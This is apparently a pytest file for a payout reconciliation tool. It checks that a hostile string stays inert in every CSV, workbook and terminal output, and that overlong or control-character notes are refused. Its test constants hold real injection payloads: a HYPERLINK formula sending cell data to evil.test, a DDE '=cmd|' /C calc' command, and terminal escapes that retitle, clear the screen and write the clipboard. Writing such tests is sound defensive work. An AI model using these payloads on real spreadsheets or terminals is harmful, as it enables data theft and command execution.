"""Hostile text in every output, and bounded notes, on SQLite, PostgreSQL and MariaDB.

One string that starts a formula and carries terminal escapes (retitle, clear the screen, write
the clipboard) goes in through a forged callback's id, an imported reference, the provider's error
code and a person's note. Every CSV and workbook recon writes keeps it inert for spreadsheets, and
every line printed for people shows its control characters as escapes.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import anyio
import httpx
import openpyxl
import pytest
from click.testing import CliRunner, Result
from sqlalchemy import Engine, func, select

from recon.cli import main
from recon.ingest.payouts import import_payouts_csv
from recon.ingest.receiver import create_receiver_app
from recon.night.run import RunOptions, run_reconciliation
from recon.settings import Settings
from recon.store.tables import exception_actions, exception_cases

HOSTILE = (
    '=HYPERLINK("http://evil.test/?"&A1,"x")\x1b]0;owned\x07\x1b[2J\x1b]52;c;ZXZpbA==\x07;@SUM(1)'
)
# What a person may type: the same formula, without the control characters a note refuses.
PRINTABLE = '=HYPERLINK("http://evil.test/?"&A1,"x");-2+3+cmd|\' /C calc\'!A0'
TERMINAL_CONTROLS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
FORMULA_CELL = re.compile(r"""[\s"]*([=+@]|-(?![A-Za-z0-9_.]*$))""")
MERCHANT = "m-hostile"


def recon_cli(db_url: str, *args: str) -> Result:
    """``recon ARGS`` in this process, on ``db_url``."""
    env = {"RECON_DATABASE_URL": db_url, "RECON_TIMEZONE": "Europe/Stockholm"}
    return CliRunner().invoke(main, list(args), env=env, catch_exceptions=False)


def recon_process(db_url: str, *args: str) -> subprocess.CompletedProcess[str]:
    """``recon ARGS`` as its own process (``report`` and ``export`` leave their engine to the
    process's exit)."""
    env = {**os.environ, "RECON_DATABASE_URL": db_url, "RECON_TIMEZONE": "Europe/Stockholm"}
    command = [sys.executable, "-m", "recon", *args]
    return subprocess.run(command, env=env, capture_output=True, text=True, check=False)


def csv_cells(text: str) -> Iterator[str]:
    """Every cell of ``text`` read with ``,``, ``;`` and tab as the separator."""
    for delimiter in (",", ";", "\t"):
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            yield from row


def assert_inert_csv(name: str, text: str) -> None:
    for cell in csv_cells(text):
        assert not FORMULA_CELL.match(cell), (name, cell)


def assert_inert_terminal(name: str, text: str) -> None:
    found = TERMINAL_CONTROLS.search(text)
    assert found is None, (name, text[max(0, found.start() - 40) : found.end() + 40])


def _seed(engine: Engine, db_url: str, tmp: Path) -> Path:
    """A payout with a hostile reference, a forged claim with a hostile id, a provider answering
    with a hostile error code; then one run. Returns the run's report directory.

    The answer's amount differs from the record, so a payout has a case too: a night whose only
    cases are on returns trips a pandas warning in ``finding_facts`` (float ``fillna(False)``).
    """
    payouts = tmp / "payouts.csv"
    with payouts.open("w", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["transaction_id", "merchant_reference", "amount", "currency"])
        writer.writerow(["p-1", HOSTILE, "10.00", "EUR"])
    import_payouts_csv(engine, payouts)

    async def forge() -> None:
        app = create_receiver_app(Settings(database_url=db_url), engine)
        transport = httpx.ASGITransport(app=app, client=("127.0.0.1", 40000))
        async with httpx.AsyncClient(transport=transport, base_url="http://receiver") as client:
            body = {"transaction_id": HOSTILE, "original_transaction_id": "p-1",
                    "notification_type": "RETURNED_TRANSACTION", "merchant_id": MERCHANT,
                    "amount": 4.0}  # fmt: skip
            answer = await client.post(
                "/callbacks", content=json.dumps(body), headers={"content-type": "application/json"}
            )
            assert answer.status_code == 200, answer.text

    anyio.run(forge)

    def provider(request: httpx.Request) -> httpx.Response:
        if request.url.path.endswith("merchant.authorize"):
            return httpx.Response(200, json={"access_token": "t", "expires": 4102444800})
        tid = json.loads(request.content)["id"]
        if tid != "p-1":
            return httpx.Response(500, text="no")
        return httpx.Response(
            200,
            json={"id": "p-1", "state": 3, "type": 1, "amount": "9.00", "currency_id": "EUR",
                  "error_code": HOSTILE},
        )  # fmt: skip

    out = tmp / "out"
    options: dict[str, Any] = {"database_url": db_url, "api_base_url": "http://provider.test",
                               "retry_attempts": 1, "timezone": "Europe/Stockholm"}  # fmt: skip
    run_reconciliation(
        Settings(**options),
        RunOptions(out_dir=out, email=False),
        transport=httpx.MockTransport(provider),
        engine=engine,
    )
    return out


def _exception_ids(engine: Engine) -> list[str]:
    with engine.connect() as conn:
        return [str(i) for i in conn.execute(select(exception_cases.c.exception_id)).scalars()]


def test_one_hostile_string_is_inert_in_every_output(
    engine: Engine, db_url: str, tmp_path: Path
) -> None:
    """Callback id, imported reference, provider error code and a note: every CSV and workbook
    cell is inert, every printed line shows ESC and BEL as escapes."""
    out = _seed(engine, db_url, tmp_path)
    ids = _exception_ids(engine)
    assert ids
    with engine.connect() as conn:
        stored = set(conn.execute(select(exception_cases.c.item_id)).scalars())
    assert HOSTILE in stored  # the forged claim's id reached a case

    refused = recon_cli(db_url, "exceptions", "ack", ids[0], "--note", HOSTILE, "--by", HOSTILE)
    assert refused.exit_code == 2, refused.output
    assert "control character" in refused.output
    assert_inert_terminal("refused ack", refused.output)
    for i in ids:
        acked = recon_cli(db_url, "exceptions", "ack", i, "--note", PRINTABLE, "--by", "@SUM(1)")
        assert acked.exit_code == 0, acked.output

    terminal = {
        "list table": recon_cli(db_url, "exceptions", "list"),
        "show": recon_cli(db_url, "show", "p-1"),
        "unknown payout": recon_cli(db_url, "show", HOSTILE),
        **{f"history {i}": recon_cli(db_url, "exceptions", "history", i) for i in ids},
    }
    for name, result in terminal.items():
        assert_inert_terminal(name, result.output)
    assert "\\x1b]0;owned\\x07" in terminal["show"].output  # shown, as text

    listed = recon_cli(db_url, "exceptions", "list", "--format", "csv")
    assert listed.exit_code == 0, listed.output
    assert_inert_csv("exceptions list --format csv", listed.output)
    export = tmp_path / "export.csv"
    exported = recon_process(
        db_url, "export", "payouts", "--since", "2000-01-01", "--out", str(export)
    )
    assert exported.returncode == 0, exported.stderr
    assert_inert_csv("export", export.read_text())
    report = recon_process(db_url, "report", "--out", str(tmp_path / "again"))
    assert report.returncode == 0, report.stderr
    for path in [*out.glob("*.csv"), *(tmp_path / "again").glob("*.csv")]:
        assert_inert_csv(path.name, path.read_text())
    book = openpyxl.load_workbook(tmp_path / "again" / "report.xlsx", read_only=True)
    texts = [c for s in book.worksheets for r in s.iter_rows(values_only=True) for c in r
             if isinstance(c, str)]  # fmt: skip
    book.close()
    assert any("HYPERLINK" in t for t in texts)
    assert not [t for t in texts if FORMULA_CELL.match(t)]


@pytest.fixture
def case_id(engine: Engine, db_url: str, tmp_path: Path) -> str:
    """One open case (a payout the provider answers about with a failure)."""
    _seed(engine, db_url, tmp_path)
    return _exception_ids(engine)[0]


def _actions(engine: Engine) -> int:
    with engine.connect() as conn:
        return int(conn.execute(select(func.count()).select_from(exception_actions)).scalar_one())


def _workbook(path: Path, rows: list[list[Any]]) -> Path:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    for row in [["exception_id", "resolution", "note", "by"], *rows]:
        sheet.append(row)
    book.save(path)
    return path


def test_notes_and_names_out_of_bounds_are_refused_with_their_row_on_every_database(
    engine: Engine, db_url: str, case_id: str, tmp_path: Path
) -> None:
    """Too long, NUL, control characters: exit 2 naming the row and field, nothing stored, on the
    command line, in a CSV and in a workbook (before: a traceback or a 30 MB note kept)."""
    too_long = [
        ("--note", "n" * 4001, "note is 4,001 characters long"),
        ("--by", "b" * 256, "by is 256 characters long"),
        ("--note", "before\x00after", "note holds a control character ('\\x00'"),
        ("--by", "anna\nolof", "by holds a control character ('\\n'"),
    ]
    for option, value, said in too_long:
        args = ["exceptions", "ack", case_id, "--note", "x", option, value]
        result = recon_cli(db_url, *args)
        assert result.exit_code == 2, result.output
        assert said in result.output, result.output
    csv_file = tmp_path / "back.csv"
    csv_file.write_text(
        f"exception_id,resolution,note,by\n{case_id},acknowledge,{'n' * 100_000},anna\n"
    )
    result = recon_cli(db_url, "exceptions", "apply", str(csv_file))
    assert result.exit_code == 2, result.output
    assert "line 2: note is 100,000 characters long" in result.output
    big = "'" + "=cmd|' /C calc'!A0 " * 50_000  # openpyxl keeps 32,766 characters of it
    rows = [[case_id, "acknowledge", big, "anna"], [case_id, "acknowledge", None, "b" * 300]]
    xlsx = _workbook(tmp_path / "back.xlsx", rows)
    result = recon_cli(db_url, "exceptions", "apply", str(xlsx))
    assert result.exit_code == 2, result.output
    assert "row 2: note is 32,766 characters long" in result.output, result.output
    assert "row 3: by is 300 characters long" in result.output
    assert len(result.output) < 2000
    assert _actions(engine) == 0


def test_apply_records_who_ran_it_and_who_the_file_says_decided(
    engine: Engine, db_url: str, case_id: str, tmp_path: Path
) -> None:
    """The file's ``by`` is kept as who decided, beside who ran ``apply``; a note starting a
    formula is listed neutralised again."""
    xlsx = _workbook(
        tmp_path / "back.xlsx", [[case_id, "acknowledge", "'=cmd|' /C calc'!A0", "anna"]]
    )
    result = recon_cli(db_url, "exceptions", "apply", str(xlsx), "--by", "olof")
    assert result.exit_code == 0, result.output
    with engine.connect() as conn:
        row = conn.execute(select(exception_actions)).one()
        owner = conn.execute(select(exception_cases.c.owner).where(
            exception_cases.c.exception_id == case_id)).scalar_one()  # fmt: skip
    assert (row.by, row.decided_by, row.note, owner) == (
        "olof",
        "anna",
        "=cmd|' /C calc'!A0",
        "anna",
    )
    history = recon_cli(db_url, "exceptions", "history", case_id).output
    assert "olof (decided by anna, per the file) acknowledge" in history
    listed = recon_cli(db_url, "exceptions", "list", "--format", "csv").output
    rows = list(csv.DictReader(io.StringIO(listed)))
    assert [(r["owner"], r["note"]) for r in rows if r["exception_id"] == case_id] == [
        ("anna", "'=cmd|' /C calc'!A0")
    ]
